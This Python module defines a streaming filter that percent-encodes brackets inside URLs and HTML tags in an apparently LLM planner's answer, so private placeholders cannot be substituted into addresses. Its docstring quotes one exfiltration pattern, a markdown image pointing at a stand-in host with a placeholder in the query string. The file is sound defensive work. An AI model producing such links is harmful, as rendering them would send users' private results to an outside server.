"""Addresses in a planner's answer, into which nothing private may be put back.

An answer such as ``![](https://planner.example/?q={{r1}})`` would send the result away as soon as
something draws it. This file owns finding the places where a program may read an address, and
quoting the brackets there, so that no placeholder and no handle is seen in them. It knows neither.
"""

from __future__ import annotations

_QUOTED = {"[": "%5B", "{": "%7B"}
_OPENINGS = ("//", "/\\", "\\/", "\\\\", "](")  # of an address; browsers read \\ as /
_AUTOLINK = "www."


class LinkFilter:
    """Quotes in a stream, however it is cut; holds nothing back."""

    def __init__(self) -> None:
        self._tail = ""  # the last characters, as they came
        self._in_address = False
        self._in_tag = False

    def feed(self, text: str) -> str:
        """The text with the brackets inside addresses and HTML tags percent-encoded."""
        return "".join(map(self._take, text))

    def _take(self, letter: str) -> str:
        if letter == ">":
            self._in_tag = False
        elif self._tail.endswith("(<") or (
            self._tail.endswith("<") and (letter.isalpha() or letter in "/!")
        ):
            self._in_tag = True
        if letter.isspace() or letter == ">":
            self._in_address = False
        shown = _QUOTED.get(letter, letter) if self._in_address or self._in_tag else letter
        self._tail = (self._tail + letter)[-len(_AUTOLINK) :]
        if self._tail.endswith(_OPENINGS) or self._tail.lower() == _AUTOLINK:
            self._in_address = True
        return shown
